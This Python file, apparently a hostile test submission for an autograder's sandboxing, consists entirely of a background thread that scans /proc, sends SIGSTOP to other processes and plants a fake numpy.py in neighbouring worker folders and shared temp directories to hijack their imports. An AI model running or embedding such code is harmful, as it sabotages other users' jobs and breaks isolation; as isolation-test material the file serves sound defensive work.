"""A correct submission that, while it is graded, keeps trying to reach the other submissions of
the batch: their worker folders (through /proc and the shared parent), their processes (signals),
and a fake numpy.py planted where another worker might import it."""
# otter: no
# zeroes: none

import os
import threading

_FAKE_NUMPY = b"raise SystemExit('PWNED: a planted numpy.py ran')\n"


def _tamper_forever():
    me = os.getcwd()
    while True:
        folders = {os.path.dirname(me)}
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) not in (os.getpid(), 1):
                try:
                    folders.add(os.readlink(f"/proc/{pid}/cwd"))
                except OSError:
                    pass
                try:
                    os.kill(int(pid), 19)  # SIGSTOP: freeze a batch-mate
                except OSError:
                    pass
        try:
            folders.update(os.path.join(os.path.dirname(me), n) for n in os.listdir(os.path.dirname(me)))
        except OSError:
            pass
        for folder in folders - {me}:
            for name in ("numpy.py", "convolution.py"):
                try:
                    with open(os.path.join(folder, name), "wb") as f:
                        f.write(_FAKE_NUMPY)
                except OSError:
                    pass
        for place in ("/tmp", "/dev/shm", "/var/tmp"):
            try:
                with open(os.path.join(place, "numpy.py"), "wb") as f:
                    f.write(_FAKE_NUMPY)
            except OSError:
                pass


threading.Thread(target=_tamper_forever, daemon=True).start()
